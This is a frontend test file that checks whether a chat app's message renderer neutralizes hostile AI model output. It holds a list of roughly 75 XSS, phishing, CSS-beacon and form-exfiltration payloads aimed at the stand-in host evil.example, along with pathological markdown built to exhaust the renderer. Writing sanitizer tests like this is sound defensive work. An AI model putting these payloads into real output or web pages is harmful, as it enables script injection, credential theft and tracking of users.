// Model output is untrusted. Each payload below (XSS, phishing, resource beacons, CSS tricks,
// pathological markdown) is rendered through the real message area as an assistant answer and
// the resulting DOM is checked: nothing can run, nothing remote can load, no link can lead
// anywhere but the web or mail (and only on a click, in the system browser).
import { describe, it, expect, vi, afterEach } from "vitest";
import { render, cleanup, fireEvent } from "@testing-library/svelte";
import MessageArea from "./MessageArea.svelte";
import type { Message } from "../api/chat";

const app = vi.hoisted(() => ({ openLink: vi.fn(() => Promise.resolve()) }));
vi.mock("../api/app", () => app);

const PAYLOADS: string[] = [
  "<script>window.__pwned = 1</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  '<img src=x onerror="window.__pwned=1">',
  '<img src="https://evil.example/beacon.png">',
  "![beacon](https://evil.example/pixel.gif)",
  "![beacon](//evil.example/pixel.gif)",
  '<svg onload="window.__pwned=1"></svg>',
  '<svg><script>window.__pwned=1</script></svg>',
  '<svg><a xlink:href="javascript:window.__pwned=1"><text>x</text></a></svg>',
  '<svg><image href="https://evil.example/i.png"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
  '<a href="javascript:window.__pwned=1">click</a>',
  "[click](javascript:window.__pwned=1)",
  "[click](JaVaScRiPt:window.__pwned=1)",
  "[click](&#106;avascript:window.__pwned=1)",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](vbscript:msgbox)",
  "[open file](file:///etc/passwd)",
  "[app](tauri://localhost/index.html)",
  '<a href="https://evil.example/login" >https://bank.example/login</a>',
  "[https://bank.example](https://evil.example/phish)",
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=p><button>Log in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<style>body{background:url(https://evil.example/bg.png)}</style>",
  '<div style="background:url(https://evil.example/bg.png)">styled</div>',
  '<div style="position:fixed;inset:0;z-index:9999;background:white">Your session expired. Paste your API key:</div>',
  '<p onclick="window.__pwned=1" onmouseover="window.__pwned=1">hover</p>',
  '<details open ontoggle="window.__pwned=1"><summary>x</summary></details>',
  '<video src="https://evil.example/v.mp4" autoplay></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<body onload="window.__pwned=1">',
  '<input autofocus onfocus="window.__pwned=1">',
  '<a href="https://example.com" target="_top" ping="https://evil.example/ping">ping</a>',
  '<img srcset="https://evil.example/a.png 1x">',
  "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
  '<template><script>window.__pwned=1</script></template>',
  // Image maps: one click anywhere on the picture follows the <area>.
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#m" width=800 height=600><map name="m"><area shape="default" href="https://evil.example/login"></map>',
  '<map name="n"><area shape="rect" coords="0,0,800,600" href="https://evil.example/login" target="_top"></map><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#n">',
  '[![pic](data:image/gif;base64,R0lGODlhAQABAAAAACw=)](https://example.com)<map name="x"><area shape="default" href="javascript:window.__pwned=1"></map>',
  // Remote loads and beacons on attributes of elements that are kept.
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="https://evil.example/a.png 2x, https://evil.example/b.png 800w" sizes="100vw">',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" lowsrc="https://evil.example/l.png" dynsrc="https://evil.example/d.avi" longdesc="https://evil.example/desc">',
  '<table background="https://evil.example/t.png"><tr><td background="https://evil.example/td.png">cell</td></tr></table>',
  '<div background="https://evil.example/bg.png">x</div>',
  '<blockquote cite="https://evil.example/src">quoted</blockquote>',
  '<a href="mailto:a@example.com" ping="https://evil.example/ping" download="x.sh">mail</a>',
  // Submitting, or acting on a click.
  '<button formaction="https://evil.example/login" type="submit">Sign in again</button>',
  '<input type="image" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" formaction="https://evil.example/login">',
  '<form><button formaction="https://evil.example/login" formtarget="_top">Continue</button></form>',
  '<isindex action="https://evil.example/login">',
  '<textarea placeholder="Paste your API key to continue"></textarea><select><option>OpenAI</option></select>',
  '<div popover id="p">x</div><button popovertarget="p">open</button>',
  // Links outside <a>: SVG and MathML, <use>, frames, <portal>, <base>, <meta> refresh.
  '<svg width="800" height="600"><a xlink:href="https://evil.example/login"><rect width="800" height="600"/></a></svg>',
  '<svg><a href="https://evil.example/login"><text>x</text></a></svg>',
  '<svg><use href="https://evil.example/sprite.svg#i"/></svg>',
  '<math href="https://evil.example/login"><mi>x</mi></math>',
  '<math><mrow href="https://evil.example/login"><mi>x</mi></mrow></math>',
  '<span href="https://evil.example/login">not a link</span>',
  '<frameset><frame src="https://evil.example/login"></frameset>',
  '<portal src="https://evil.example/login"></portal>',
  '<applet code="X" codebase="https://evil.example/"></applet>',
  '<base href="https://evil.example/" target="_top"><a href="login">relative</a>',
  `<meta http-equiv="refresh" content="0; URL='https://evil.example/login'">`,
  "```html\n<script>window.__pwned=1</script>\n```",
  "`<img src=x onerror=window.__pwned=1>`",
  '<a href="https://example.com" style="display:block;width:100vw;height:100vh">overlay</a>',
  "> ".repeat(400) + "deeply quoted",
  "- ".repeat(300) + "deeply listed",
  "*".repeat(20000),
  "[a](".repeat(2000) + "x",
  "| a ".repeat(500) + "|\n" + "|---".repeat(500) + "|\n" + "| 1 ".repeat(500) + "|",
  "x".repeat(200000),
];

function message(content: string, id = 1): Message {
  return {
    id, conversation_id: 1, role: "assistant", content, provider: "openai", model: "gpt-4o-mini", failover_reason: null, prompt_tokens: null,
    completion_tokens: null, first_token_ms: null, total_ms: null, status: "complete", error: null, error_class: null, next_action: null, created_at: 0, parts: [], left_out: null,
  };
}

/** Everything in the rendered answer that could run code, load a resource or navigate. */
function dangers(root: Element): string[] {
  const found: string[] = [];
  for (const el of root.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    // The app's own buttons (the message's actions, a code block's Copy) are not model output.
    if (tag === "button" && (!el.closest(".md") || el.matches(".copy-code"))) continue;
    if (
      ["script", "iframe", "object", "embed", "applet", "portal", "form", "input", "button", "textarea", "select", "meta", "base", "link", "style", "video", "audio", "template", "frame", "frameset", "map", "area", "svg", "math", "use"].includes(tag)
    )
      found.push(`<${tag}>`);
    for (const attr of el.getAttributeNames()) {
      const value = el.getAttribute(attr) ?? "";
      if (attr.startsWith("on")) found.push(`${tag}[${attr}]`);
      if (attr === "style") found.push(`${tag}[style]`);
      if (["src", "srcset", "lowsrc", "dynsrc", "ping", "action", "formaction", "poster", "background", "data", "codebase"].includes(attr) && !value.startsWith("data:image/")) found.push(`${tag}[${attr}=${value}]`);
      if (["usemap", "popovertarget", "formtarget"].includes(attr)) found.push(`${tag}[${attr}]`);
      // Only an <a> is a link, and only to the web or mail.
      if (/(^|:)href$/.test(attr) && (tag !== "a" || attr !== "href")) found.push(`${tag}[${attr}=${value}]`);
      if (attr === "href" && !/^(https?:|mailto:|#)/i.test(value)) found.push(`${tag}[href=${value}]`);
    }
    if (tag === "a" && el.getAttribute("href") && el.getAttribute("target") === "_top") found.push("a[target=_top]");
  }
  return found;
}

afterEach(() => {
  cleanup();
  expect((window as unknown as { __pwned?: number }).__pwned).toBeUndefined();
});

describe("hostile model output", () => {
  it(`has at least 40 payloads (${PAYLOADS.length})`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
  });

  for (const [i, p] of PAYLOADS.entries()) {
    it(`payload ${i + 1}: ${p.slice(0, 60).replace(/\n/g, "⏎")}`, () => {
      const { container } = render(MessageArea, { messages: [message(p)] });
      const answer = container.querySelector('[data-testid="message"][data-role="assistant"]');
      expect(answer).not.toBeNull();
      expect(dangers(answer!)).toEqual([]);
      expect(answer!.innerHTML).not.toMatch(/evil\.example\/(?!phish|login)/);
    });
  }

  it("a phishing link shows its real address and opens only on a click, in the system browser", async () => {
    const { container } = render(MessageArea, { messages: [message("[https://bank.example](https://evil.example/phish) and [x](javascript:alert(1))")] });
    const links = container.querySelectorAll('[data-testid="message"] a');
    expect(links[0].getAttribute("title")).toBe("https://evil.example/phish");
    expect(app.openLink).not.toHaveBeenCalled();
    await fireEvent.click(links[0]);
    expect(app.openLink).toHaveBeenCalledWith("https://evil.example/phish");
    app.openLink.mockClear();
    const dead = [...links].find((a) => a.textContent === "x");
    if (dead) await fireEvent.click(dead);
    expect(app.openLink).not.toHaveBeenCalled();
  });

  it("a click inside anything that carries a link is cancelled, should the sanitizer ever miss one", async () => {
    const { container } = render(MessageArea, { messages: [message("An answer. [web](https://example.com)")] });
    const md = container.querySelector('[data-testid="message"] .md')!;
    md.insertAdjacentHTML(
      "beforeend",
      '<img alt="map" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#m"><map name="m"><area shape="default" href="https://evil.example/login"></map>' +
        '<span href="https://evil.example/login"><b>inner</b></span><svg><a href="https://evil.example/login"><text>svg</text></a></svg>',
    );
    for (const target of [md.querySelector("area")!, md.querySelector("span > b")!, md.querySelector("svg text")!]) {
      expect(await fireEvent.click(target), target.outerHTML).toBe(false);
    }
    expect(app.openLink).not.toHaveBeenCalled();
    // A middle click on a real link neither navigates nor opens it; a plain click opens it outside.
    const link = md.querySelector("a[href]")!;
    expect(await fireEvent(link, new MouseEvent("auxclick", { bubbles: true, cancelable: true, button: 1 }))).toBe(false);
    expect(app.openLink).not.toHaveBeenCalled();
    expect(await fireEvent.click(link)).toBe(false);
    expect(app.openLink).toHaveBeenCalledWith("https://example.com");
    app.openLink.mockClear();
  });

  it("pathological markdown renders in bounded size, so the window stays usable", () => {
    const big = PAYLOADS.slice(-6).join("\n\n");
    const { container } = render(MessageArea, { messages: [message(big)] });
    const answer = container.querySelector('[data-testid="message"]')!;
    // The text is shown (not dropped), and nesting is not amplified into an enormous tree.
    expect(answer.textContent!.length).toBeGreaterThan(200000);
    expect(answer.querySelectorAll("*").length).toBeLessThan(20000);
  });
});
